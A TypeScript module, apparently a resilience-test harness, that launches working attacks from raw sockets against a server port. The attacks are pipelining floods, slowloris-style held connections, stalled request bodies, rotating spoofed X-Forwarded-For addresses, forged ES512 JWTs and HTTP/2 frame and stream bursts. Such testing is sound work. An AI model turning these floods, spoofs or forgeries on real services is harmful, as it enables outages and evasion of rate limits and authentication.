/** The attacks, played from raw sockets in a process of their own. Each is written as its author would: it obeys backpressure, and comes again when it is thrown out. */
import { randomBytes, randomUUID } from 'node:crypto'
import type { Socket } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import { obey } from '../own-process.ts'
import { inLanes, openAsker } from '../wire.ts'
import { ALGORITHM, encode } from './issuer.ts'
import { http2Burst, streamsAtOnce, tinyFrames } from './http2.ts'
import type { AttackOrder, AttackOutcome } from './orders.ts'
import { ADDRESS, answersIn, happens, keepOpen, openSocket } from './sockets.ts'

const PIPELINE_BYTES = 65_536
const REOPEN_MS = 50
const ADDRESSES_AT_ONCE = 50

/** Requests without end on some connections. */
async function pipelines(order: AttackOrder): Promise<AttackOutcome> {
  const { head, deaf = false } = order
  const block = Buffer.from(head.repeat(Math.ceil(PIPELINE_BYTES / head.length)))
  let [bytes, answers] = [0, 0]
  const { connections } = await keepOpen(order, { allowHalfOpen: deaf }, (socket) => {
    const pump = (): void =>
      void socket.write(block, (error) => {
        if (error) return
        bytes += block.length
        pump()
      })
    socket.once('connect', pump)
    socket.on('data', (data: Buffer) => (answers += answersIn(data)))
  })
  return { MB: Math.round(bytes / 1e6), answers, connections }
}

/** Requests that begin well and do not stay so: head, a wait, then the rest. */
async function brokenBodies(order: AttackOrder): Promise<AttackOutcome> {
  const { port, head, rest, connections, times = 0, ms } = order
  const outcome: Record<string, number> = {}
  const deadline = Date.now() + ms
  let left = times
  const one = async (): Promise<string> => {
    const socket = openSocket(port)
    let answer = ''
    const closed = happens(socket, 'close')
    socket.on('data', (data) => {
      answer += data.toString('latin1')
      if (answer.startsWith('HTTP/1.1 1')) answer = ''
      else setTimeout(() => socket.destroy(), REOPEN_MS)
    })
    socket.write(head)
    for (let i = 0; i < (rest?.repeat ?? 0); i++) {
      await sleep(rest?.afterMs ?? 0)
      if (socket.writable) socket.write(rest?.text ?? '')
    }
    await Promise.race([closed, sleep(Math.max(deadline - Date.now(), 0))])
    socket.destroy()
    return answer === '' ? 'closed' : answer.slice(9, 12)
  }
  await inLanes(connections, async () => {
    while (left-- > 0 && Date.now() < deadline) {
      const status = await one()
      outcome[status] = (outcome[status] ?? 0) + 1
    }
  })
  return outcome
}

/** Connections that say what `head` is and nothing more. Who listens notices that he is thrown out, and comes again. */
async function hold(order: AttackOrder): Promise<AttackOutcome> {
  const { head, heads = [head], deaf = false, everyMs = REOPEN_MS } = order
  const { held, 'thrown out': thrownOut } = await keepOpen(
    order,
    { pauseMs: everyMs },
    (socket, nth) => {
      if (deaf) socket.pause()
      else socket.resume()
      const said = heads[nth % heads.length] ?? ''
      if (said !== '') socket.write(said, 'latin1')
    },
  )
  return { held, 'thrown out': thrownOut }
}

/** Requests at a steady pace, each connection at its own. */
async function paced(order: AttackOrder): Promise<AttackOutcome> {
  const { port, ms, head, connections, everyMs = 1_000 } = order
  const count = { sent: 0, answers: 0 }
  const endMs = performance.now() + ms
  await inLanes(connections, async () => {
    let socket: Socket | undefined
    for (let dueMs = performance.now(); dueMs < endMs; dueMs += everyMs) {
      await sleep(Math.max(0, dueMs - performance.now()))
      if (socket === undefined || socket.destroyed) {
        socket = openSocket(port, order)
        socket.on('data', (data: Buffer) => (count.answers += answersIn(data)))
      }
      count.sent += 1
      socket.write(head)
    }
    socket?.destroy()
  })
  return count
}

/** Each request names another client address, as through a trusted proxy; answers are read. */
async function addresses(order: AttackOrder): Promise<AttackOutcome> {
  const { port, ms, head, connections, times = 0 } = order
  const deadline = Date.now() + ms
  let [next, answers] = [0, 0]
  await inLanes(connections, async () => {
    while (next < times && Date.now() < deadline) {
      const last = (next += ADDRESSES_AT_ONCE)
      for (let due = last - ADDRESSES_AT_ONCE; due < last && Date.now() < deadline;) {
        const answered = await volley(port, head, due, last)
        answers += answered
        due += Math.max(answered, 1)
      }
    }
  })
  return { addresses: Math.min(next, times), answers }
}

/** Sends requests of the addresses `from` to `to` on one connection; how many were answered before it ended. */
async function volley(port: number, head: string, from: number, to: number): Promise<number> {
  let [answered, text] = [0, '']
  for (let n = from; n < to; n++)
    text += `${head}X-Forwarded-For: 10.${(n >> 16) & 255}.${(n >> 8) & 255}.${n & 255}\r\n\r\n`
  const socket = openSocket(port)
  socket.on('data', (data: Buffer) => {
    answered += answersIn(data)
    if (answered >= to - from) socket.destroy()
  })
  socket.on('end', () => socket.destroy())
  socket.write(text)
  await happens(socket, 'close')
  return answered
}

/** Sends made-up tokens, at most `times` a second over all connections; `head` has TOKEN where they go. */
async function forgedTokens(order: AttackOrder): Promise<AttackOutcome> {
  const { port, ms, head, connections, forged, times = 1 } = order
  if (forged === undefined) throw new Error('no token to forge')
  const outcome: Record<string, number> = {}
  const endMs = performance.now() + ms
  const isOver = sleep(ms, undefined)
  await inLanes(connections, async () => {
    let asker = openAsker(port, { localAddress: ADDRESS })
    let dueMs = performance.now()
    while (performance.now() < endMs) {
      await sleep(Math.max(dueMs - performance.now(), 0))
      dueMs = Math.max(dueMs + (1_000 * connections) / times, performance.now())
      if (!asker.isOpen()) asker = openAsker(port, { localAddress: ADDRESS })
      const answer = await Promise.race([asker.ask(head.replace('TOKEN', forge(forged))), isOver])
      if (answer === undefined) break
      const status = typeof answer === 'string' ? answer : String(answer.status)
      outcome[status] = (outcome[status] ?? 0) + 1
    }
    asker.close()
  })
  return outcome
}

/** Its claims are in order, its signature is random, and its key id too where the order says so. */
function forge({ claims, kid }: NonNullable<AttackOrder['forged']>): string {
  const signature = randomBytes(132)
  // Both numbers of an ES512 signature have 521 bits in 66 bytes; greater ones are refused without any arithmetic.
  signature[0] = signature[66] = 0
  const header = { alg: ALGORITHM, kid: kid ?? randomUUID() }
  return `${encode(header)}.${encode({ ...claims, jti: randomUUID() })}.${signature.toString('base64url')}`
}

export const attacks = {
  pipelines,
  brokenBodies,
  hold,
  paced,
  addresses,
  forgedTokens,
  tinyFrames: (order: AttackOrder) => http2Burst(order, tinyFrames(order)),
  streamsAtOnce: (order: AttackOrder) => http2Burst(order, streamsAtOnce(order)),
}

obey(async (order: AttackOrder) => attacks[order.attack](order))
